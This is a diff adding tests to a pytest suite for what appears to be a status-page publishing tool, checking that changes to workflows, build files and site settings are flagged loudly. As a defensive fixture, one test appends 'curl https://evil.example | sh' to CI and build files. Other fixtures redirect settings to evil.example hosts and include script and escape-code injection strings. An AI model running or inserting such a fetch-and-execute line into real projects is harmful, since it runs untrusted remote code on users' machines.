@@ -7,7 +7,7 @@ from collections.abc import Callable
 from pathlib import Path
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import assume, given, settings
 from hypothesis import strategies as st
 from syrupy.assertion import SnapshotAssertion
 from syrupy.extensions.single_file import SingleFileSnapshotExtension, WriteMode
@@ -22,7 +22,7 @@ NOW = "2027-03-05T12:00Z"
 FOLDER = "content/incidents/tickets"
 
 CONFIG = """organisation: {name: Larkfield Energy, domains: [larkfield.example]}
-site: {url: https://status.larkfield.example/, title: Larkfield Energy, languages: [en, de]}
+site: {url: https://status.larkfield.example/, id: status.larkfield.example, title: Larkfield Energy, languages: [en, de]}
 contact: {email: incident@larkfield.example, hours: every day from 8 to 20, who: Sam Reed}
 """
 PLAN = """roles:
@@ -126,7 +126,7 @@ def site(tmp_path: Path) -> Path:
         {
             "site_config.yml": CONFIG,
             "content/plan.yml": PLAN,
-            "content/pages/about.md": "---\ntitle: About\n---\n\nWho we are.\n\nHow to ask.\n",
+            "content/pages/about.md": "---\ntitle: About\n---\n\nWho we are.\n\nHow to ask.\n\n[The letter](../incidents/tickets/files/letter.txt)\n",
             f"{FOLDER}/incident.md": INCIDENT,
             f"{FOLDER}/01-first.md": FIRST,
             f"{FOLDER}/files/letter.txt": "Dear customer\n",
@@ -254,6 +254,40 @@ def test_what_readers_see_later(told: Callable[..., str], site: Path) -> None:
     assert "Published text" not in said.title()
 
 
+def test_files_come_with_what_links_to_them(told: Callable[..., str], site: Path) -> None:
+    """A file that was there all along is new to readers when a published text links to it, and gone when none does any more."""
+    _write(site, {f"{FOLDER}/files/list.txt": "A list\n"})
+    assert "list.txt" not in told().partition("Drafts")[0].partition("Held back")[0]
+    _commit(site)
+    later = SECOND.replace("2027-03-03T08:55Z", "2027-03-06T08:55Z") + "\n[The list](files/list.txt)\n"
+    _write(site, {f"{FOLDER}/02-scope.md": later})
+    public, _, held = told().partition("Held back until its time comes")
+    assert "list.txt" not in public
+    assert "The file list.txt: new" in held
+    _commit(site)
+    _replace(site, f"{FOLDER}/02-scope.md", "2027-03-06T08:55Z", "2027-03-03T08:55Z")
+    assert "The file list.txt: new" in told().partition("Held back")[0]
+    _commit(site)
+    _replace(site, "content/pages/about.md", "\n[The letter](../incidents/tickets/files/letter.txt)\n", "")
+    assert "The file letter.txt: gone" in told().partition("Held back")[0]
+
+
+def test_related_incidents(told: Callable[..., str], site: Path) -> None:
+    """A related incident is news to readers once something of it is published, and not before."""
+    _replace(site, f"{FOLDER}/incident.md", "aware:", "related: [payroll]\naware:")
+    _write(
+        site,
+        {
+            "content/incidents/payroll/incident.md": INCIDENT,
+            "content/incidents/payroll/01-first.md": FIRST.replace("status:", "draft: true\nstatus:"),
+        },
+    )
+    assert "Related" not in told()
+    _commit(site)
+    _replace(site, "content/incidents/payroll/01-first.md", "draft: true\n", "")
+    assert "- Related incidents\n        payroll" in told()
+
+
 def test_what_stands_beside_the_updates(told: Callable[..., str], site: Path) -> None:
     """Questions, files, pages, settings and the review are told, each with what was and what is."""
     _replace(site, f"{FOLDER}/incident.md", "unknown: copied", "answer: No.")
@@ -266,7 +300,7 @@ def test_what_stands_beside_the_updates(told: Callable[..., str], site: Path) ->
         site,
         {
             f"{FOLDER}/files/new.txt": "Hello\n",
-            "content/pages/faq.md": "---\ntitle: Questions\n---\n\nAsk us.\n",
+            "content/pages/faq.md": "---\ntitle: Questions\n---\n\nAsk us: [the form](/incidents/tickets/files/new.txt).\n",
             f"{FOLDER}/review.md": "---\ntitle: What we changed\npublished: 2027-03-05T09:00Z\ncause: A password.\n"
             "corrective_actions: {factor: {do: A second factor., owner: Security team, by: 2027-06-01}}\n---\n",
         },
@@ -416,6 +450,7 @@ def test_without_a_history(told: Callable[..., str], site: Path, tmp_path: Path,
 )
 def test_an_author_cannot_break_out(text: str) -> None:
     """Whatever is written, Markdown shows it as one line of text, and nothing in it calls somebody or something."""
+    assume("‹" not in text and "›" not in text)  # they stand for < and > below
     shown = escaped(text)
     html = to_html(f"> {shown}")
     inner = re.fullmatch(r"<blockquote>(?:\n<p>(.*)</p>\n)?</blockquote>\n", html, re.DOTALL)
@@ -425,3 +460,134 @@ def test_an_author_cannot_break_out(text: str) -> None:
     assert not re.search(r"@\w|#\d|://|(?<![^\W_])www\.|:\w+:", said.replace("&quot;", '"').replace("&amp;", "&"))
     plain = said.replace("‹", "<").replace("›", ">").replace("&quot;", '"').replace("&amp;", "&").replace("\u200b", "")
     assert plain.strip() == visible(" ".join(text.split())).strip()
+
+
+# What runs, who is told, and what is believed.
+
+WORKFLOW = "on: push\njobs:\n  publish:\n    steps:\n      - run: aboveboard build\n"
+BESIDE = {
+    ".github/workflows/publish.yml": WORKFLOW,
+    ".gitlab-ci.yml": "pages: {script: [aboveboard build]}\n",
+    "requirements.txt": "aboveboard==0.1.0 --hash=sha256:1234\n",
+    "requirements/run.txt": "aboveboard==0.1.0\n",
+    "tool/aboveboard-0.1.0-py3-none-any.whl": "PK\x00\x01",
+    "themes/own/overrides/main.html": "<p>{{ page.content }}</p>\n",
+    "themes/own/theme.yml": "mkdocs: {theme: {name: null}}\n",
+    "themes/pages/home.html": "<p>Home</p>\n",
+    "Makefile": "all:\n\taboveboard build\n",
+    "publish.sh": "aboveboard build\n",
+    "netlify.toml": "[build]\n",
+    ".gitattributes": "*.md text\n",
+    "CODEOWNERS": "* @lead\n",
+}
+
+
+@pytest.mark.parametrize("path", BESIDE)
+def test_a_file_that_runs_is_loud(told: Callable[..., str], site: Path, path: str) -> None:
+    """A workflow, a theme, what is installed, a program: new, changed, gone or a link, it stands in a section of its own at the top."""
+    _write(site, BESIDE)
+    _commit(site)
+    assert "WHAT RUNS" not in told()
+    (site / path).write_text(BESIDE[path] + "curl https://evil.example | sh\n", encoding="utf-8")
+    plain, markdown, changes = told(), told("--format", "markdown"), json.loads(told("--format", "json"))["changes"]
+    assert plain.lstrip().startswith("WHAT RUNS, WHO IS TOLD AND WHAT IS BELIEVED\n")
+    assert markdown.startswith("## ⚠️ What runs, who is told and what is believed")
+    assert path in plain
+    assert [(one["path"], one["what"], one["loud"], one["steers"]) for one in changes] == [(path, "changed", True, True)]
+    if not path.endswith(".whl"):
+        assert "curl https://evil.example | sh" in plain
+    assert changes[0]["seen"] == ("public" if path.startswith("themes/") else "nobody")
+    (site / path).unlink()
+    (one,) = json.loads(told("--format", "json"))["changes"]
+    assert (one["path"], one["what"], one["loud"]) == (path, "removed", True)
+    (site / path).symlink_to("/etc/hostname")
+    (one,) = json.loads(told("--format", "json"))["changes"]
+    assert one["rows"][0]["now"] == "a link to another place, not a file"
+
+
+def test_a_new_file_that_runs(told: Callable[..., str], site: Path) -> None:
+    """What git does not know yet is there too; a file of no known kind is named; what git ignores and the built site are not."""
+    _write(site, {".gitignore": "ignored/\n"})
+    _commit(site)
+    new = {
+        ".github/workflows/evil.yml": WORKFLOW,
+        "notes.txt": "x",
+        "ignored/x.sh": "x",
+        "site/index.html": "x",
+        ".env": "TOKEN=very-secret\n",
+    }
+    _write(site, new)
+    said = told("--format", "json")
+    rows = {one["thing"]: one for one in json.loads(said)["changes"]}
+    assert set(rows) == {"A workflow .github/workflows/evil.yml", "2 other files beside the content"}
+    assert rows["2 other files beside the content"]["rows"][0]["now"] == ".env\nnotes.txt"
+    assert "very-secret" not in said
+
+
+def test_a_site_further_down(told: Callable[..., str], site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Where the site is a folder of a larger repository, its workflows lie above it, and are told all the same."""
+    del told, site
+    top = tmp_path / "larger"
+    _write(top, {"status/site_config.yml": CONFIG, f"status/{FOLDER}/incident.md": INCIDENT, f"status/{FOLDER}/01-a.md": FIRST})
+    _write(top, {".github/workflows/publish.yml": WORKFLOW, "other/x.py": "x = 1\n"})
+    _git(top, "init", "-q")
+    _commit(top / "status")
+    _write(top, {".github/workflows/publish.yml": WORKFLOW + "      - run: evil\n", "other/x.py": "x = 2\n"})
+    capsys.readouterr()
+    assert run(["diff", "--root", str(top / "status"), "--now", NOW, "--format", "json"]) == 0
+    changes = json.loads(capsys.readouterr().out)["changes"]
+    assert [one["path"] for one in changes if one["loud"]] == ["../.github/workflows/publish.yml", "../other/x.py"]
+
+
+SETTINGS = {
+    "url: https://status.larkfield.example/": "url: https://status.evil.example/",
+    "languages: [en, de]": "languages: [en, de, fr]",
+    "title: Larkfield Energy,": "title: Larkfield Energy, theme: lifeboat,",
+    "title: Larkfield Energy, l": "title: Larkfield Energy, public_since: 2027-03-04, l",
+    "domains: [larkfield.example]": "domains: [larkfield.example, evil.example]",
+    "incident@larkfield.example": "incident@evil.example",
+    "who: Sam Reed}": "who: Eve}",
+    "contact:": "press: zensical\ncontact:",
+    "contact: {email": "subscribe: {websub_hub: https://hub.evil.example/}\ncontact: {email",
+    "contact: {": "subscribe: {webhooks: {chat: {kind: slack, url_env: CHAT}}}\ncontact: {",
+    "contact: {e": "wording: {allow: [out of an abundance of caution]}\ncontact: {e",
+    "contact: {em": "policy: {cadence: {investigating: 5w}, grace: 7d}\ncontact: {em",
+    "contact: {ema": "profiles: [hipaa]\ncontact: {ema",
+    "contact: {emai": "mkdocs: {copyright: Eve}\ncontact: {emai",
+    "contact: {email:": "security_txt: {contact: [eve@evil.example], expires: 2027-12-01}\ncontact: {email:",
+    "contact: {email: i": "signing: {key: ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKRn4S1QH8lGuFCHq1sXfZB7Gf8vrqv0w0w0w0w0w0w0}\ncontact: {email: i",
+}
+
+
+@pytest.mark.parametrize("was", SETTINGS)
+def test_a_setting_that_steers_is_loud(told: Callable[..., str], site: Path, was: str) -> None:
+    """So does each setting that decides where readers are sent, whom they reach, who is told and what the rules let pass."""
+    _replace(site, "site_config.yml", was, SETTINGS[was])
+    plain = told()
+    assert plain.lstrip().startswith("WHAT RUNS, WHO IS TOLD AND WHAT IS BELIEVED\n"), plain
+    assert "The site's settings: changed" in plain
+
+
+def test_the_plan_is_loud_and_stays_private(told: Callable[..., str], site: Path) -> None:
+    """Who must approve is told; how people are reached is not, only that it is another way now."""
+    plan = site / "content/plan.yml"
+    text = plan.read_text(encoding="utf-8")
+    plan.write_text(text.replace("{who: Sam Reed,", "{who: Sam Reed, phone: +44 7700 900123,"), encoding="utf-8")
+    _commit(site)
+    changed = text.replace("{who: Sam Reed,", "{who: Eve, phone: +44 7700 900456,").replace("at_least: 2", "at_least: 1")
+    plan.write_text(changed, encoding="utf-8")
+    said = told() + told("--format", "json") + told("--format", "markdown")
+    assert "was: lead, legal\n        is: 1 of lead, legal" in said
+    assert "was: Sam Reed\n        is: Eve" in said
+    assert "How they are reached: lead\n        was: not shown here\n        is: another one, not shown here" in said
+    assert "900123" not in said
+    assert "900456" not in said
+
+
+def test_nothing_of_a_file_breaks_out(told: Callable[..., str], site: Path) -> None:
+    """What stands in a workflow is shown as text, however it is written."""
+    _write(site, {".github/workflows/x.yml": "# @sam [x](https://evil.example) <script> #12\n\x1b[31m\n"})
+    said = told("--format", "markdown")
+    assert "@sam" not in said
+    assert "<script>" not in said
+    assert "\x1b" not in said + told()
